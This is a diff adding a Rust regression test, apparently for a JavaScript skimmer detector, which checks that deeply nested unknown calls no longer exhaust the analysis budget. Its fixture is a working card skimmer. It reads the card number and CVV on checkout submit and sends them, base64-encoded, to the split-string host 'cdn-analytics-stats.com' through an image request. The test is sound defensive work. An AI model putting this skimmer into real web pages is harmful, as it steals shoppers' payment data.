@@ -190,3 +190,35 @@ fn results_keep_the_order_of_the_jobs() {
         }
     }
 }
+
+/// Found by the `js_grammar` fuzz target: calls on an unknown receiver nested 900 deep
+/// (`a.b(a.b(…))`, under the nesting limit) made every quick look at a call's argument
+/// re-evaluate the whole nest, spent the script's evaluation budget on nothing and left the
+/// skimmer after it with an unknown destination. Nothing is computed for a call on an
+/// unknown receiver, so its arguments are not evaluated either.
+#[test]
+fn nested_calls_on_unknown_receivers_do_not_spend_the_budget_of_the_skimmer_after_them() {
+    let code = format!(
+        "{}x{};\n\
+         document.querySelector('#checkout').addEventListener('submit', function () {{\n\
+           var card = document.getElementById('cc-number').value;\n\
+           var cvv = document.getElementById('cc-cvv').value;\n\
+           var host = ['https://', 'cdn-analytic', 's-stats.com', '/c.gif?d='].join('');\n\
+           new Image().src = host + btoa(card + '|' + cvv);\n\
+         }});\n",
+        "a.b(".repeat(900),
+        ")".repeat(900)
+    );
+    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
+    assert!(r.errors.is_empty(), "{:?}", r.errors);
+    let exfil = r
+        .findings
+        .iter()
+        .find(|f| f.rule == "payment-data-exfiltration")
+        .unwrap_or_else(|| panic!("{:?}", r.findings));
+    assert!(
+        exfil.message.contains("cdn-analytics-stats.com"),
+        "{}",
+        exfil.message
+    );
+}
